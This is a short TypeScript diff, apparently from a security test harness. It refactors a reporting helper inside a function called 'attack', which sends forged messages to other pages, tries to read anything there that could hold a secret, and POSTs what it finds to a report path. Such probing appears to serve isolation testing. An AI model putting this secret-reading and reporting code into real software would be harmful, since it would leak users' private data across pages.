@@ -17,13 +17,12 @@ const forgedMessages = [
  * foreign page try.
  */
 function attack(reportPath: string, forgeries: readonly unknown[], endMessage: string): void {
-  function report(kind: string, what: unknown): void {
+  const report = (kind: string, what: unknown) =>
     void fetch(reportPath, {
       method: 'POST',
       keepalive: true,
       body: JSON.stringify({ kind, what }),
     });
-  }
   const targets: Window[] = [];
 
   /** Tries to read everything in another page that could hold a secret, and reports what it gets. */
